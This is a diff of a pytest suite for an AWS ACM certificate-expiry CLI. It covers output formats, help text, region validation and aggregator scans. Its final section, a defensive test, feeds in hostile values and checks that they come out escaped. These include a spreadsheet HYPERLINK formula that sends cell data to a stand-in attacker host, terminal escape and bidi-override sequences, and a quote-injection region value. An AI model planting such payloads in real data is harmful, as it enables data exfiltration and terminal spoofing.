@@ -150,8 +150,9 @@ def seeded(endpoint: str, tmp_path_factory: pytest.TempPathFactory) -> Seeded:
 
     arns: dict[str, str] = {}
     region, domain, key_type = EXPIRED  # ACM refuses expired imports: import it first, let it lapse
-    expires = now + timedelta(seconds=2)
-    arns[domain] = import_certificate(client(region), domain, key_type, expires, now)
+    acm = client(region)  # made before the clock starts: a loaded machine takes a while
+    expires = datetime.now(UTC) + timedelta(seconds=3)
+    arns[domain] = import_certificate(acm, domain, key_type, expires, now)
     for region, domain, key_type, days in SEED:
         if days is None:
             arns[domain] = client(region).request_certificate(DomainName=domain, ValidationMethod="DNS")[
@@ -223,11 +224,17 @@ def test_table_has_one_row_per_certificate_sorted_by_days_left_in_120_columns(se
 
 def test_wide_shows_the_arn_and_the_whole_annotation(seeded: Seeded) -> None:
     result = run_cli(seeded, "--region", US, "--wide")
-    header = result.stdout.splitlines()[0].split()
-    assert {"KEY", "USE", "ARN"} <= set(header)
-    (api,) = [line for line in result.stdout.splitlines() if "api.example.com" in line]
-    assert seeded.arns["api.example.com"] in api
-    assert api.endswith("ACM never renews imported certificates: re-import a renewed one to the same ARN.")
+    lines = result.stdout.splitlines()
+    assert {"KEY", "USE", "ARN"} <= set(lines[0].split()) and max(len(line) for line in lines) <= 200
+    (at,) = [i for i, line in enumerate(lines) if "api.example.com" in line]
+    assert lines[at].endswith(seeded.arns["api.example.com"])
+    assert lines[at + 1].strip().startswith("Expires in 6 days (")  # the whole annotation, under the row
+    assert lines[at + 1].endswith("ACM never renews imported certificates: re-import a renewed one to the same ARN.")
+
+
+def test_wide_is_for_the_table(seeded: Seeded) -> None:
+    result = run_cli(seeded, "--region", US, "--wide", "--format", "csv")
+    assert_one_line_error(result, "--wide is for the table; --format csv always carries every field")
 
 
 def test_json_has_the_window_the_scan_time_and_each_rows_account(seeded: Seeded) -> None:
@@ -237,7 +244,7 @@ def test_json_has_the_window_the_scan_time_and_each_rows_account(seeded: Seeded)
     assert answer["window"] == 30
     scanned = datetime.strptime(answer["scannedAt"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
     assert abs(scanned - datetime.now(UTC)) < timedelta(minutes=2)
-    assert answer["source"] == f"ACM in 123456789012: {US}, {EU}"
+    assert answer["source"] == f"ACM in account 123456789012: {US}, {EU}"
     assert answer["summary"] | {"byAccountRegion": None} == {
         "certificates": 8,
         "COMPLIANT": 3,
@@ -290,6 +297,7 @@ def test_csv_and_html_reports_go_to_a_file(seeded: Seeded, tmp_path: Path) -> No
                       "days_left", "verdict", "annotation"]  # fmt: skip
     assert [r[3] for r in records] == US_EU_ORDER
     assert all(r[10] and "…" not in r[10] for r in records)
+    assert b'"old.example.eu","IMPORTED"' in raw and b',0,"NON_COMPLIANT",' in raw  # text quoted, days a number
 
     page = tmp_path / "report.html"
     assert run_cli(seeded, "--region", US, "--region", EU, "--format", "html", "--output", str(page)).returncode == 2
@@ -304,8 +312,8 @@ def test_csv_and_html_reports_go_to_a_file(seeded: Seeded, tmp_path: Path) -> No
 
     parsed = Tags()
     parsed.feed(page.read_text())
-    assert "script" not in parsed.seen and parsed.seen.count("svg") == 1
-    assert parsed.seen.count("tr") == 1 + 8
+    assert parsed.seen.count("script") == 1 and parsed.seen.count("svg") == 1
+    assert parsed.seen.count("tr") == 1 + 8 and parsed.seen.count("table") == 1  # one account: one table
 
 
 def test_only_noncompliant_shows_those_and_keeps_the_exit_status(seeded: Seeded) -> None:
@@ -407,6 +415,31 @@ def test_unknown_region_is_named(seeded: Seeded) -> None:
 
 def test_no_region_configured(seeded: Seeded) -> None:
     assert_one_line_error(run_cli(seeded), "no region: pass --region, set AWS_REGION or AWS_DEFAULT_REGION")
+
+
+def test_version() -> None:
+    result = subprocess.run([*CLI, "--version"], capture_output=True, text=True, timeout=60, check=False)
+    assert (result.returncode, result.stdout, result.stderr) == (0, "acm-expiry 0.1.0\n", "")
+
+
+@pytest.mark.parametrize("command", [[], ["scan"], ["demo"]])
+@pytest.mark.parametrize("columns", [80, 100])
+def test_help_is_wrapped_to_the_terminal(command: list[str], columns: int) -> None:
+    env = {"PATH": os.environ.get("PATH", ""), "COLUMNS": str(columns)}
+    result = subprocess.run([*CLI, *command, "--help"], env=env, capture_output=True, text=True, timeout=60,
+                            check=False)  # fmt: skip
+    assert result.returncode == 0 and result.stderr == ""
+    assert max(len(line) for line in result.stdout.splitlines()) <= columns
+    if command == ["scan"]:
+        words = " ".join(result.stdout.split())
+        for explained in (
+            "table (default): for a terminal",
+            "csv: for spreadsheets",
+            "json: for programs",
+            "html: one self-contained page",
+            "Exit status: 0 when no certificate is NON_COMPLIANT",
+        ):
+            assert explained in words  # fmt: skip
 
 
 @pytest.mark.parametrize("days", ["abc", "0", "3651", "1.5", "-5", ""])
@@ -683,7 +716,7 @@ def test_aggregator_scan_reads_tags_for_exemptions(doubled: World, capsys: pytes
     [
         (["--aggregator", "nope"], "no Config aggregator 'nope' in us-east-1"),
         (["--aggregator", "org", "--account", "12345"], "--account '12345' is not a 12-digit AWS account id"),
-        (["--aggregator", "org", "--region", "us-east-1'--"], "is not an AWS region name"),
+        (["--aggregator", "org", "--region", "us-east-1'--"], 'unknown region "us-east-1\'--"'),
         (["--account", ORG[0]], "--account needs --aggregator"),
         (["--aggregator", "org", "--all-regions"], "--all-regions is for a direct scan"),
     ],
@@ -704,3 +737,120 @@ def test_aggregator_access_denied_names_the_permission(doubled: World, capsys: p
     )
     assert run_main(doubled, ["scan", "--aggregator", "org"]) == 1
     assert "needs IAM permission config:SelectAggregateResourceConfig" in capsys.readouterr().err
+
+
+def test_aggregator_refuses_an_unknown_region_before_querying(
+    doubled: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A mistyped region would narrow the query to nothing: "0 certificates" and exit 0, an all-clear."""
+    seed_aggregator(doubled, per_place=1)
+    assert run_main(doubled, ["scan", "--aggregator", "org", "--region", "us-easst-1"]) == 1
+    out, err = capsys.readouterr()
+    assert out == "" and err.count("\n") == 1
+    assert "unknown region 'us-easst-1': botocore knows no ACM endpoint there (did you mean us-east-1?)" in err
+    assert doubled.doubles.calls("config.SelectAggregateResourceConfig") == []
+
+
+def test_aggregator_refuses_an_unknown_home_region(
+    doubled: World, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    seed_aggregator(doubled, per_place=1)
+    monkeypatch.setenv("AWS_REGION", "eu-wset-1")
+    assert run_main(doubled, ["scan", "--aggregator", "org"]) == 1
+    assert "unknown region 'eu-wset-1': botocore knows no Config endpoint there (did you mean eu-west-1?)" in (
+        capsys.readouterr().err
+    )
+    assert doubled.doubles.calls("config.SelectAggregateResourceConfig") == []
+
+
+def test_an_organization_scan_finding_nothing_warns(doubled: World, capsys: pytest.CaptureFixture[str]) -> None:
+    seed_aggregator(doubled, per_place=1)
+    assert run_main(doubled, ["scan", "--aggregator", "org", "--region", "ap-southeast-2", "--format", "json"]) == 0
+    out, err = capsys.readouterr()
+    assert json.loads(out)["rows"] == []
+    assert err == (
+        "acm-expiry scan: warning: Config aggregator org (regions ap-southeast-2) in us-east-1 holds no ACM "
+        "certificate: check that the accounts' configuration recorders record AWS::ACM::Certificate, that the "
+        "aggregator covers those accounts and regions, and any --account or --region\n"
+    )
+    run_main(doubled, ["scan", "--aggregator", "org", "--format", "json"])
+    assert capsys.readouterr().err == ""  # certificates found: nothing to warn of
+
+
+def test_an_empty_exempt_tag_means_no_exemptions_as_for_the_rule(
+    doubled: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    inventory = synthetic_inventory(20, doubled.now)
+    inventory[0]["Tags"] = [{"Key": "acm-expiry-exempt", "Value": "lab"}]
+    doubled.acm.source = lambda region: inventory
+    run_main(doubled, ["scan", "--format", "json", "--exempt-tag", ""])
+    rows = json.loads(capsys.readouterr().out)["rows"]
+    assert len(rows) == 20 and not any(row["annotation"].startswith("Exempt") for row in rows)
+    assert doubled.doubles.calls("resourcegroupstaggingapi.GetResources") == []
+    assert run_main(doubled, ["scan", "--exempt-tag", "aws:reserved"]) == 1
+    assert "(empty or absent: no exemptions)" in capsys.readouterr().err  # what it says is what it does
+
+
+# --- hostile values: nothing from AWS acts on a terminal, a spreadsheet or a page ------------------
+
+HOSTILE_DOMAIN = '=HYPERLINK("http://evil.example/?"&A1,"x")\x1b]8;;http://evil.example/\x1b\\ok\r\x00\u202e.com'
+HOSTILE_TAG = "\x1b[2J\x1b[31mlab\u202eX"
+
+
+def raw_controls(text: str) -> list[str]:
+    """Characters a terminal or viewer would act on, but line ends."""
+    return [hex(ord(c)) for c in text.replace("\r\n", "\n") if not (c.isprintable() or c in " \n")]
+
+
+class Terminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+@pytest.mark.parametrize("output_format", ["table", "csv", "json", "html"])
+def test_hostile_values_from_an_organization_reach_no_output_raw(
+    doubled: World, capsys: pytest.CaptureFixture[str], output_format: str
+) -> None:
+    records = seed_aggregator(doubled, per_place=1)
+    records[0]["configuration"]["domainName"] = HOSTILE_DOMAIN
+    records[1]["tags"].append({"key": "acm-expiry-exempt", "value": HOSTILE_TAG})
+    records[2]["awsRegion"] = "eu-west-1\x1b[8m"  # a foreign row: named on stderr, escaped, and skipped
+    argv = ["scan", "--aggregator", "org", "--exempt-tag", "acm-expiry-exempt", "--format", output_format]
+    run_main(doubled, argv)
+    out, err = capsys.readouterr()
+    assert raw_controls(out) == [] and raw_controls(err) == []
+    assert "awsRegion 'eu-west-1\\x1b[8m' is not the certificate's (us-east-1)" in err
+    if output_format == "json":  # exact values, escaped by JSON itself
+        rows = json.loads(out)["rows"]
+        assert HOSTILE_DOMAIN in [row["domain"] for row in rows]
+        assert f"Exempt by tag acm-expiry-exempt: {HOSTILE_TAG}" in [row["annotation"] for row in rows]
+    elif output_format == "table":  # wrapped in its column: the escapes are there, the words around them wrapped
+        assert "\\x00\\u202e.com" in out
+    else:
+        assert "\\x1b]8;;http://evil." in out and "\\x0d\\x00\\u202e." in out
+        assert "\\x1b[2J\\x1b[31mlab\\u202eX" in out
+    if output_format == "csv":
+        import csv
+
+        cells = [cell for record in csv.reader(io.StringIO(out, newline="")) for cell in record]
+        runs = [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c.lstrip("-").isdigit())]
+        assert "'=HYPERLINK" in out and runs == []
+
+
+def test_hostile_domains_in_a_direct_scan_and_on_stderr(doubled: World) -> None:
+    inventory = synthetic_inventory(5, doubled.now)
+    inventory[0]["DomainName"] = HOSTILE_DOMAIN
+    doubled.acm.source = lambda region: inventory
+    out, err = io.StringIO(), Terminal()  # stderr a terminal: progress lines too
+    options = scan_module.ScanOptions(regions=(US,))
+    scan_module.run_scan(options, out, err, lambda: doubled.now, doubled.doubles.session)
+    assert raw_controls(out.getvalue()) == [] and "\\u202e" in out.getvalue()
+    assert "scanning 1 region(s): us-east-1" in err.getvalue()
+    # An error message quoting what came from AWS, or from the user, reaches stderr escaped too.
+    err = Terminal()
+    options = scan_module.ScanOptions(aggregator="org\x1b]8;;http://evil.example/\x07")
+    assert scan_module.run_scan(options, io.StringIO(), err, lambda: doubled.now, doubled.doubles.session) == 1
+    lines = err.getvalue().splitlines()
+    assert raw_controls(err.getvalue()) == [] and len(lines) == 2
+    assert lines[0] == "acm-expiry scan: querying Config aggregator org\\x1b]8;;http://evil.example/\\x07 in us-east-1"
+    assert lines[1].startswith("acm-expiry scan: error: no Config aggregator 'org\\x1b]8;;http://evil.example/\\x07'")
